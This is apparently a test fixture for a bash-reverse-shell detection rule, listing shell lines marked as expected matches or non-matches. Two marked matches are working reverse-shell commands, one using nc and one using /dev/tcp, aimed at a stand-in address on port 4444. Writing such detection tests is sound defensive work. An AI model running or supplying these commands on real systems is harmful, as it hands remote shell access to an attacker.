#!/bin/bash
# ruleid: bash-reverse-shell
nc -e /bin/sh 203.0.113.5 4444
# ruleid: bash-reverse-shell
bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
# ok: bash-reverse-shell
nc -z db.example.org 5432
# ok: bash-reverse-shell
timeout 1 bash -c 'echo > /dev/tcp/db/5432'
